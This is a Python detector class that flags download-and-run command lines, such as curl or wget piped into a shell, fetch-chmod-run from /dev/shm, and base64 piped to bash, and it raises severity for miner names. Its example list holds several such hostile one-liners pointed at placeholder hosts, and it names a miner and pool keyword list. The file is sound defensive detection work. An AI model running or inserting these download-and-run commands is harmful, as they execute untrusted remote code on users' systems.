"""Download-and-run one-liners: ``curl ... | sh``, ``wget -O- ... | bash``, ``sh -c "$(curl ...)"``."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, ClassVar

from detectors.base import Detector, Example, Finding, Signal
from detectors.examples import proc
from detectors.process._cmdline import argv, process_fields, redact
from gpusentry.contract import Dataset, event_time

_FETCH = r"(?:curl|wget|fetch|busybox\s+wget)\b[^|;&]*"
_RUN = r"(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\b|python3?\b|perl\b"
PIPE_TO_SHELL = re.compile(rf"{_FETCH}\|\s*(?:{_RUN})")
SUBST_TO_SHELL = re.compile(rf"(?:(?:ba|z|da)?sh\s+(?:-\S+\s+)*(?:<\(|\"?\$\()\s*{_FETCH})")
# A fetched file made executable and run from a staging directory in the same line.
# Decode-and-run: a payload hidden in base64 piped into an interpreter.
DECODE_TO_SHELL = re.compile(rf"base64\s+(?:-d|--decode|-D)\b[^|;&]*\|\s*(?:{_RUN})")
FETCH_CHMOD_RUN = re.compile(rf"{_FETCH}.*chmod\s+[+0-7]*x?\S*\s+(/tmp|/var/tmp|/dev/shm)/", re.DOTALL)
MINER_WORDS = re.compile(r"xmrig|miner|stratum|t-rex|lolminer|nbminer|gminer|nanominer|c3pool|moneroocean|"
                         r"supportxmr|nanopool|2miners|unmineable|herominers", re.IGNORECASE)


class DownloadExec(Detector):
    id = "process.download_exec"
    title = "Downloaded script piped into a shell"
    description = ("A command line that downloads and runs code in one go: curl/wget output piped into "
                   "sh/bash/python, a shell fed by $(curl ...) or <(wget ...), a fetched file made executable "
                   "and run from /tmp or /dev/shm, or base64-decoded text piped into a shell. Common in "
                   "installers, so medium alone; high when the line "
                   "names a miner or a pool.")
    severity = "medium"
    technique = "T1496"
    references = ("https://attack.mitre.org/techniques/T1059/004/", "https://attack.mitre.org/techniques/T1105/")
    datasets = frozenset({Dataset.PROCESS})
    signal = Signal.SUSPICIOUS_PROCESS

    examples: ClassVar[list[Example]] = [
        Example("curl piped to sh", True, [proc("/bin/sh -c 'curl -fsSL http://203.0.113.4/i.sh | sh'")]),
        Example("wget -O- piped to sudo bash", True,
                [proc("bash -c 'wget -qO- http://203.0.113.4/x | sudo bash -s'")]),
        Example("bash process substitution", True, [proc("bash -c 'bash <(curl -s http://198.51.100.2/s)'")]),
        Example("fetch chmod run from /dev/shm", True,
                [proc("sh -c 'wget http://h/x -O /dev/shm/x; chmod +x /dev/shm/x; /dev/shm/x'")]),
        Example("base64 decoded into bash", True, [proc("bash -c 'echo Y3VybCB4IHwgc2g= | base64 -d | bash'")]),
        Example("base64 of a file", False, [proc("bash -c 'base64 -d cert.b64 > cert.pem'")]),
        Example("curl to a file", False, [proc("/usr/bin/curl -o data.tar.gz https://example.org/data.tar.gz")]),
        Example("grep in a pipe", False, [proc("bash -c 'cat log.txt | grep curl | sh_helper'")]),
    ]

    def process(self, event: dict[str, Any], state: Any) -> Iterable[Finding]:
        if event["event"]["type"] != ["start"]:
            return ()
        p = event["process"]
        line = p.get("command_line") or " ".join(argv(p))
        if not line or ("curl" not in line and "wget" not in line and "fetch" not in line and "base64" not in line):
            return ()
        match = (PIPE_TO_SHELL.search(line) or SUBST_TO_SHELL.search(line) or FETCH_CHMOD_RUN.search(line)
                 or DECODE_TO_SHELL.search(line))
        if match is None:
            return ()
        high = bool(MINER_WORDS.search(line))
        return [self.finding(event, f"download-and-run by pid {p['pid']}: {(redact(line) or '')[:160]}", timestamp=event_time(event),
                             severity="high" if high else "medium", score=0.8 if high else 0.5,
                             fields=process_fields(event))]
